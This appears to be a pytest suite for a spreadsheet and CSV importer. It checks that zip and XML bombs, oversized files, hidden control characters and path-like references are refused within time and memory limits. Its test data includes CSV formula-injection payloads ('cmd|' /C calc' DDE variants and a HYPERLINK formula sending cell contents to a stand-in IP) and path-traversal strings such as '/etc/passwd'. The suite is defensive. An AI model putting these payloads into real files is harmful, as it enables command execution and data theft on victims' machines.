"""Files that attack whoever imports them: each is refused in bounded time and memory, and says what to do instead."""

import csv
import json
import os
import re
import subprocess
import sys
from collections.abc import Sequence
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook

from storage.imports import ImportRejected, read_cases, read_people
from storage.imports.archives import examine
from tests.attacks.bombs import BOMBS, HEADINGS, PERSON, SHEET, sheet, written
from tests.test_layout import ROOT, _modules

ROLES = {"hos": "Head of Service", "case_holder": "Practitioner"}
MOST_MEGABYTES = 300
MOST_SECONDS = 20
"""Of computing, for one file; on an idle machine each takes less than two."""

# What a council has installed knows no defusedxml; the tools of this project bring it along, and openpyxl would use it.
CHILD = """
import json, os, resource, sys, time
os.environ["OPENPYXL_DEFUSEDXML"] = "False"
import openpyxl
from pathlib import Path
from storage.imports import ImportRejected, read_people
assert not openpyxl.DEFUSEDXML

def peak():
    # What getrusage says includes the process from which this one was started.
    status = Path("/proc/self/status")
    if status.exists():
        return int(status.read_text().partition("VmHWM:")[2].split()[0]) // 1024
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024

for name, path in json.load(sys.stdin).items():
    began = time.process_time()
    try:
        said = f"{len(read_people(Path(path), roles={'hos': 'Head of Service'}).rows)} people"
    except ImportRejected as rejected:
        said = str(rejected)
    print(json.dumps([name, said, time.process_time() - began, peak()]), flush=True)
"""


def read_in_a_child(files: dict[str, Path]) -> dict[str, tuple[str, float, int]]:
    """For each file, what the importer said, the seconds it took, and the megabytes that its process ever had."""
    told = json.dumps({name: str(path) for name, path in files.items()})
    environment = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run(
        [sys.executable, "-c", CHILD], input=told, capture_output=True, text=True, env=environment, check=False
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return {name: (said, seconds, peak) for name, said, seconds, peak in map(json.loads, done.stdout.splitlines())}


@pytest.fixture(scope="module")
def outcomes(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[str, float, int]]:
    folder = tmp_path_factory.mktemp("bombs")
    files = {name: make(folder / f"{number}.xlsx") for number, (name, make) in enumerate(BOMBS.items())}
    wide, long = folder / "wide.csv", folder / "long.csv"
    wide.write_text(",".join(HEADINGS) + "\n" + "Anna," * 400_000)
    long.write_text(",".join(HEADINGS) + "\n" * 1_100_000)
    one_cell, utf16 = folder / "cell.csv", folder / "utf16.csv"
    one_cell.write_text(",".join(HEADINGS) + "\n" + "x" * 10_000_000)
    utf16.write_bytes(b"\xff\xfe" + b"\x00\xd8" * 1000)
    return read_in_a_child(
        files
        | {
            "a row of hundreds of thousands of cells": wide,
            "more than a million rows": long,
            "a line of ten megabytes": one_cell,
        }
        | {"halves of characters": utf16}
    )


@pytest.mark.parametrize("name", BOMBS)
def test_a_workbook_that_nobody_should_open_is_refused_with_what_to_do(
    outcomes: dict[str, tuple[str, float, int]], name: str
) -> None:
    said, seconds, peak = outcomes[name]
    assert "import that" in said
    assert seconds < MOST_SECONDS
    assert peak < MOST_MEGABYTES


@pytest.mark.parametrize(
    ("name", "words"),
    [
        ("a row of hundreds of thousands of cells", "goes on beyond 1,048,576 rows or 16,384 columns"),
        ("more than a million rows", "goes on beyond 1,048,576 rows or 16,384 columns"),
        ("a line of ten megabytes", "A cell in this row is longer than 131,072 characters"),
        ("halves of characters", "neither a CSV file nor an .xlsx workbook"),
    ],
)
def test_a_csv_file_beyond_all_measure_is_refused_with_its_row(
    outcomes: dict[str, tuple[str, float, int]], name: str, words: str
) -> None:
    said, seconds, peak = outcomes[name]
    assert words in said
    assert seconds < MOST_SECONDS
    assert peak < MOST_MEGABYTES + 200


def test_a_workbook_as_large_as_a_big_council_has_is_let_in(tmp_path: Path) -> None:
    """What keeps bombs out must not keep out twenty thousand cases with thirty columns each."""
    rows = "".join(
        f'<row r="{row}">{"".join(f"<c><v>{row * column % 99991}</v></c>" for column in range(30))}</row>'
        for row in range(3, 20_003)
    )
    path = written(tmp_path / "big.xlsx", {SHEET: sheet(rows)})
    with path.open("rb") as stream:
        assert examine(stream) is False


def people(folder: Path, *rows: Sequence[str], name: str = "people.csv") -> Path:
    path = folder / name
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([HEADINGS, *rows])
    return path


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://192.0.2.1/?"&A2,"Alice")',
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\u200b=1+1",
        "\u202e=1+1",
    ],
)
def test_a_formula_is_never_a_name_a_team_or_a_reference(tmp_path: Path, formula: str) -> None:
    with pytest.raises(ImportRejected, match="looks like a formula"):
        read_people(people(tmp_path, (formula, *PERSON[1:])), roles=ROLES)
    with pytest.raises(ImportRejected, match="looks like a formula"):
        read_people(people(tmp_path, (*PERSON[:3], formula, *PERSON[4:])), roles=ROLES)
    cases = tmp_path / "cases.csv"
    with cases.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([("ref", "plan", "team", "worker"), (formula, "CP", "Red", "Alice Osei")])
    with pytest.raises(ImportRejected, match="looks like a"):
        read_cases(cases)


def test_a_formula_in_a_workbook_is_read_as_its_result_or_refused_and_never_worked_out(tmp_path: Path) -> None:
    worked_out = '<row r="3"><c r="A3" t="str"><f>HYPERLINK("http://192.0.2.1","Ann Lee")</f><v>Ann Lee</v></c>'
    rest = "".join(f'<c t="inlineStr"><is><t>{one}</t></is></c>' for one in ("ann@example.org", *PERSON[2:]))
    path = written(tmp_path / "a.xlsx", {SHEET: sheet(f"{worked_out}{rest}</row>")})
    assert [one.name for one in read_people(path, roles=ROLES).rows] == ["Alice Osei", "Ann Lee"]
    never = '<row r="3"><c r="A3"><f>HYPERLINK("http://192.0.2.1","Ann Lee")</f></c>'
    path = written(tmp_path / "b.xlsx", {SHEET: sheet(f"{never}{rest}</row>")})
    with pytest.raises(ImportRejected, match=r"A3: .*looks like a formula"):
        read_people(path, roles=ROLES)


def test_nothing_that_was_imported_is_written_to_a_spreadsheet_again() -> None:
    """There is no export to neutralise; the demonstration alone writes such files, of people it has made up."""
    writes = {
        str(path)
        for path in _modules("audits", "bot", "cards", "handlers", "scheduling", "storage")
        if re.search(r"csv\.(writer|DictWriter)|import.* Workbook\b", (ROOT / path).read_text("utf-8"))
    }
    assert writes == {"bot/demonstration/people.py", "bot/demonstration/workbook.py"}


def test_what_cannot_be_seen_is_left_out_of_names_and_of_what_is_said(tmp_path: Path) -> None:
    hidden = "Al\x1b[31mice\u202e Osei\x07"
    [found] = read_people(people(tmp_path, (hidden, *PERSON[1:])), roles=ROLES).rows
    assert found.name == "Al[31mice Osei"
    with pytest.raises(ImportRejected) as rejected:
        read_people(people(tmp_path, (*PERSON[:2], "\x1b]0;x\x07", *PERSON[3:])), roles=ROLES)
    assert "\x1b" not in str(rejected.value)
    book = Workbook()
    assert book.active is not None
    book.active.title = "S\u202etaff"
    for row in (HEADINGS, (*PERSON[:2], "Zookeeper", *PERSON[3:])):
        book.active.append(row)
    book.save(tmp_path / "book.xlsx")
    with pytest.raises(ImportRejected) as rejected:
        read_people(tmp_path / "book.xlsx", roles=ROLES)
    assert str(rejected.value).startswith("Staff C2: ")


@pytest.mark.parametrize("ref", ["../../evil", "..\\evil", '1";filename="x', "/etc/passwd", "<b>1</b>", ".bashrc"])
def test_a_reference_that_could_be_a_path_is_refused(tmp_path: Path, ref: str) -> None:
    path = tmp_path / "cases.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([("ref", "plan", "team", "worker"), (ref, "CP", "Red", "Alice Osei")])
    with pytest.raises(ImportRejected, match="looks like the path of a file"):
        read_cases(path)


def test_the_name_of_a_file_is_shown_and_never_followed(tmp_path: Path) -> None:
    with pytest.raises(ImportRejected, match=r"There is no file “passwd\.csv” there"):
        read_people(tmp_path / ".." / "nowhere" / ".." / "passwd.csv", roles=ROLES)


CELL: st.SearchStrategy[Any] = st.one_of(
    st.text(max_size=30),
    st.sampled_from(
        ["=1", "\x00", "\ufeff", "-", "2026-03-30", "943 476 5919", "#N/A", "1e400", "²", "٣", '"', "é" * 300]
    ),
)


@settings(max_examples=60, deadline=None, database=None, suppress_health_check=list(HealthCheck))
@given(st.lists(st.lists(CELL, max_size=12), max_size=6), st.sampled_from([*",;\t", ""]), st.booleans())
def test_whatever_stands_in_a_csv_file_it_is_read_or_refused_in_words(
    tmp_path_factory: pytest.TempPathFactory, rows: list[list[str]], mark: str, headed: bool
) -> None:
    lines = [(mark or ",").join(row) for row in rows]
    for headings, read in ((HEADINGS, lambda path: read_people(path, roles=ROLES)), (CASES, read_cases)):
        path = tmp_path_factory.getbasetemp() / "anything.csv"
        text = "\n".join([(mark or ",").join(headings), *lines] if headed else lines)
        path.write_text(text, encoding="utf-8", errors="replace")
        with suppress(ImportRejected):
            read(path)


CASES = ("Child Unique ID", "Case Status", "Allocated Team", "Allocated Worker", "Age", "CIN Closure Date")
